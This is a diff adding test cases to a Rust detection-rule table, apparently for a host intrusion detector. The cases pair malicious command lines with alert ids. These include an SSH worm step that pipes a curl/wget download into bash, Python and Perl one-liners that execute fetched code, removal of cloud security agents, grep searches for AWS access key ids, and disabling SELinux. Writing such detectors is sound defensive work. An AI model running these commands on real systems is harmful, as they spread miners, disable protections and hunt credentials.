@@ -355,8 +355,13 @@ fn exec_table() -> Vec<Case> {
         user(vec!["/tmp/cnrig"], vec!["miner-known-binary", TMP]),
         user(
             vec!["/tmp/.x/kworker", "-o", "stratum+tcp://pool:3333"],
-            // Hidden behind `.x` too.
-            vec!["miner-stratum-url", TMP, "behaviour-hidden-program"],
+            // Hidden behind `.x` too, and named like a kernel thread.
+            vec![
+                "miner-stratum-url",
+                TMP,
+                "behaviour-hidden-program",
+                "behaviour-masquerading",
+            ],
         ),
         user(vec!["sh", "-c", "./m -o stratum+tcp://pool:3333"], vec![]),
         // Falco's event generator: the scheme alone, the pool given in parts.
@@ -917,6 +922,110 @@ fn exec_table() -> Vec<Case> {
             vec!["evasion-immutable-attribute"],
         ),
         user(vec!["chattr", "+C", "/var/lib/db"], vec![]),
+        // Miner droppers (docs/EFFICACY.md, "Cloud-miner and botnet scripts"): competitors killed
+        // by name, AWS key ids searched for, SELinux off from the next boot.
+        user(
+            vec!["pkill", "-f", "kdevtmpfsi"],
+            vec!["exec-miner-competitor-kill"],
+        ),
+        user(
+            vec!["killall", "-9", "xmrig"],
+            vec!["exec-miner-competitor-kill"],
+        ),
+        user(
+            vec!["pkill", "-f", "stratum+tcp"],
+            vec!["exec-miner-competitor-kill"],
+        ),
+        user(vec!["pkill", "-f", "gunicorn"], vec![]),
+        // A miner worm's spread: a download piped into a shell on the next host.
+        user(
+            vec![
+                "ssh",
+                "-oStrictHostKeyChecking=no",
+                "-oBatchMode=yes",
+                "root@10.0.0.7",
+                "(curl -fsSL http://h/x.sh||wget -q -O- http://h/x.sh)|bash",
+            ],
+            vec!["exec-remote-download-pipe-shell"],
+        ),
+        user(
+            vec!["ssh", "web1", "curl -s http://localhost/health | jq ."],
+            vec![],
+        ),
+        // A program fetched and executed in-process by an interpreter one-liner.
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import urllib.request;exec(urllib.request.urlopen('http://10.0.0.1/x.py').read())",
+            ],
+            vec!["exec-interpreter-downloaded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import requests; exec(requests.get('https://h/p').text)",
+            ],
+            vec!["exec-interpreter-downloaded-program"],
+        ),
+        user(
+            vec!["perl", "-MLWP::Simple", "-e", "eval(get('http://h/p'))"],
+            vec!["exec-interpreter-downloaded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import json,urllib.request;print(json.load(urllib.request.urlopen('http://h/v')))",
+            ],
+            vec![],
+        ),
+        // Cloud host agents removed (Alibaba's Aegis, Tencent's YunJing), as miner scripts do.
+        user(
+            vec!["pkill", "-f", "AliYunDun"],
+            vec!["evasion-disable-security"],
+        ),
+        user(
+            vec!["systemctl", "stop", "aegis"],
+            vec!["evasion-disable-security"],
+        ),
+        user(
+            vec!["/bin/sh", "/usr/local/qcloud/YunJing/uninst.sh"],
+            vec!["evasion-disable-security"],
+        ),
+        user(
+            vec!["bash", "/usr/local/aegis/uninstall.sh"],
+            vec!["evasion-disable-security"],
+        ),
+        user(vec!["bash", "/usr/local/aegis/check.sh"], vec![]),
+        user(vec!["killall", "firefox"], vec![]),
+        user(
+            vec!["grep", "-r", "AKIA", "/root"],
+            vec!["discovery-password-search"],
+        ),
+        user(
+            vec!["grep", "-rEo", "AKIA[A-Z0-9]{16}", "/home"],
+            vec!["discovery-password-search"],
+        ),
+        user(vec!["grep", "-r", "Akiane", "/home/ann/notes"], vec![]),
+        user(
+            vec![
+                "sed",
+                "-i",
+                "s/SELINUX=enforcing/SELINUX=disabled/",
+                "/etc/selinux/config",
+            ],
+            vec!["evasion-selinux-disabled-at-boot"],
+        ),
+        user(
+            vec!["sh", "-c", "echo SELINUX=disabled > /etc/selinux/config"],
+            vec!["evasion-selinux-disabled-at-boot"],
+        ),
+        user(
+            vec!["sed", "-n", "s/SELINUXTYPE=//p", "/etc/selinux/config"],
+            vec![],
+        ),
         user(
             vec!["chmod", "777", "/etc/passwd"],
             vec!["evasion-system-file-world-writable"],
